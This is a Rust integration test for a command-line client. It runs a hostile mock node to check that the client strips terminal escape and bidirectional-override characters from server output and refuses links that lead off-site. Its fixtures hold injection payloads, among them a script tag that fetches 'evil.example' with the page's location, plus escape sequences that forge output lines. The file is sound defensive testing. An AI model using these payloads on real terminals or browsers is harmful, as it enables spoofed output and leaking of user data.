//! A node that answers its users with what is to act on their terminals and browsers.

use std::net::Ipv4Addr;
use std::process::Command;
use std::sync::Arc;

use alknet_call::{
    CallError, CallHandler, Dispatcher, ErrorCode, HandlerKind, OperationSpec, Registration,
    Registry,
};
use alknet_core::{Entries, HandlerRegistry, Identities, SystemClock};
use alknet_endpoint::{Server, ServerOptions};
use alknet_tests::{Answer, Cli, binary, run_with_input};
use alknet_tls::NodeKey;
use serde_json::{Value, json};

/// Clears the screen, sets a title, forges a line, erases one, turns the direction, and does the first again in
/// one character of eight bits.
const ACTS: &str = "x\u{1b}[2J\u{1b}]0;title\u{7}\r\nhealth     ok\u{8}\u{202e}\u{9b}2J\u{7f}";

/// What leads a browser elsewhere, or has it run a script in a page of the user's own computer.
const PATHS: [&str; 5] = [
    "@evil.example/status/enter/0123456789abcdef0123456789abcdef0123456789a",
    ".evil.example/",
    "/status/enter/\"><script>fetch('//evil.example/'+document.location)</script>",
    "/status/enter/0123456789abcdef\u{1b}]8;;https://evil.example\u{7}",
    "",
];

struct Lying {
    server: Server,
    key: NodeKey,
}

impl Lying {
    fn start(path: &'static str) -> Self {
        let says = |name: &str, said: Value| {
            let spec = OperationSpec::query(name, ACTS);
            let handler =
                HandlerKind::once(move |_, _| std::future::ready(Ok::<_, CallError>(said.clone())));
            Registration::new(spec, handler)
        };
        let refuses = HandlerKind::once(|_, _| async {
            Err::<Value, _>(CallError::new(ErrorCode::Conflict, ACTS).with_details(json!([ACTS])))
        });
        let finds_mistakes = HandlerKind::once(|_, _| async {
            let error = CallError::new(ErrorCode::InvalidInput, ACTS);
            Err::<Value, _>(error.with_details(json!({ "errors": [ACTS] })))
        });
        let follows = HandlerKind::stream(|_, _| {
            let record = json!({ "time": ACTS, "level": ACTS, "target": ACTS, "message": ACTS });
            futures_util::stream::iter([Ok::<_, CallError>(record)])
        });
        let problem = json!({ "code": ACTS, "text": ACTS, "hint": ACTS });
        let info = json!({
            "name": ACTS, "identity": ACTS, "version": ACTS, "kernel": ACTS, "addresses": [ACTS],
            "listen": { "alpns": [ACTS], "port": 443 }, "data": { "mode": ACTS }, "clock": ACTS,
            "uptime_ms": 1, "problems": [problem],
        });
        let peers = json!({ "peers": [{
            "peer_id": ACTS, "name": ACTS, "key": ACTS, "kind": ACTS, "source": ACTS,
            "display_name": ACTS,
        }] });
        let script = json!({
            "value": { "said": ACTS }, "shown": ACTS, "console": [{ "level": "log", "text": ACTS }],
        });
        let link = json!({ "path": path, "ticket": "", "expires_in": 60, "names": [ACTS] });
        let token = json!({
            "key_id": ACTS, "holder": ACTS, "source": ACTS, "scopes": [ACTS], "expires": ACTS,
            "last_used": ACTS, "created_by": ACTS, "note": ACTS,
        });
        let of_hub = json!({
            "peers": [{ "name": ACTS, "state": ACTS, "peer_id": ACTS, "labels": { ACTS: ACTS } }],
            "waiting": [{ "name": ACTS, "addr": ACTS, "fingerprint": ACTS }],
            "invitations": [{ "key_id": ACTS, "left": 1, "role": ACTS, "expires": ACTS }],
        });
        let share = json!({
            "id": ACTS, "name": ACTS, "state": ACTS, "released": ACTS, "releases": 1, "from": [ACTS],
        });
        let registry = Registry::builder()
            .with(says("token/list", json!({ "tokens": [token] })))
            .with(says("hub/peers", of_hub))
            .with(says("escrow/list", json!({ "shares": [share] })))
            .with(Registration::new(
                OperationSpec::query("config/apply", ACTS),
                finds_mistakes,
            ))
            .with(says("node/info", info))
            .with(says("node/page-ticket", link))
            .with(says("peer/list", peers))
            .with(says("runtime/eval", script))
            .with(says(
                "vault/status",
                json!({ "state": ACTS, "slots": [ACTS] }),
            ))
            .with(Registration::new(
                OperationSpec::query("evil/refused", ACTS),
                refuses,
            ))
            .with(Registration::new(
                OperationSpec::subscription("node/log", ACTS),
                follows,
            ))
            .build()
            .expect("every rule is kept");
        let handler = CallHandler::new(Arc::new(Dispatcher::new(registry)));
        let mut handlers = HandlerRegistry::new();
        handlers.register(Arc::new(handler)).expect("the only one");
        let key = NodeKey::generate().expect("a key");
        let clock = Arc::new(SystemClock { built_s: 0 });
        let known = Arc::new(Identities::new(Entries::default(), clock));
        let options = ServerOptions {
            port: 0,
            ..ServerOptions::default()
        };
        let server = Server::bind(options, &key, handlers, known).expect("a free port");
        Self { server, key }
    }

    fn target(&self) -> String {
        format!(
            "{}@{}:{}",
            self.key.public(),
            Ipv4Addr::LOCALHOST,
            self.server.port()
        )
    }
}

/// Runs a command beside the node in this process.
async fn run(cli: &Cli, arguments: Vec<String>) -> Answer {
    let cli = cli.clone();
    let run = move || {
        let mut command = Command::new(binary());
        command.args(arguments).arg("--state").arg(cli.state());
        // What scripts are read from.
        run_with_input(command, "1\n")
    };
    tokio::task::spawn_blocking(run).await.expect("it runs")
}

fn acts(text: &str) -> bool {
    let turns = |c: char| matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    text.chars()
        .any(|c| (c.is_control() && c != '\n') || turns(c))
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_a_node_says_acts_on_a_terminal() {
    let folder = tempfile::tempdir().expect("a folder");
    let cli = Cli::new(folder.path().to_owned());
    let node = Lying::start(PATHS[0]);
    let target = node.target();
    let document = folder.path().join("document.toml");
    std::fs::write(&document, "").expect("the folder is ours");
    let document = document.display().to_string();
    for (arguments, says_much) in [
        (&["status", "@"][..], true),
        (&["call", "@", "node/info"], true),
        (&["call", "@", "node/log"], true),
        (&["call", "@", "node/info", "--also", "@"], true),
        (&["call", "@", "evil/refused"], false),
        (&["ops", "@"], true),
        (&["ops", "@", "node/info"], true),
        (&["peers", "@"], true),
        (&["js", "run", "@", "-"], true),
        (&["js", "repl", "@"], true),
        (&["vault", "status", "@"], true),
        (&["token", "list", "@"], true),
        (&["hub", "peers", "@"], true),
        (&["escrow", "list", "@"], true),
        (&["config", "apply", "@", "?"], true),
        (&["open", "--print", "@"], false),
    ] {
        for json in [false, true] {
            let mut all: Vec<_> = arguments
                .iter()
                .map(|one| one.replace('@', &target).replace('?', &document))
                .collect();
            if json {
                all.insert(0, "--json".to_owned());
            }
            let answer = run(&cli, all).await;
            let (said, failed) = (&answer.output, &answer.errors);
            assert!(!acts(said) && !acts(failed), "{arguments:?}: {answer:?}");
            // It was asked, and answered.
            let shown = format!("{said}{failed}");
            assert!(
                shown.contains("title") || !says_much,
                "{arguments:?}: {answer:?}"
            );
            let forged = shown
                .lines()
                .any(|line| line.trim_start() == "health     ok");
            assert!(!forged, "{arguments:?}: {answer:?}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_link_that_leads_elsewhere_is_not_opened() {
    let folder = tempfile::tempdir().expect("a folder");
    let cli = Cli::new(folder.path().to_owned());
    for path in PATHS {
        let node = Lying::start(path);
        for more in [&[][..], &["--action", "lock"]] {
            let mut all = vec!["open".to_owned(), "--print".to_owned(), node.target()];
            all.extend(more.iter().map(|one| (*one).to_owned()));
            let answer = run(&cli, all).await;
            assert_ne!(answer.status, 0, "{path:?}: {answer:?}");
            assert!(answer.output.is_empty(), "{path:?}: {answer:?}");
        }
    }
}
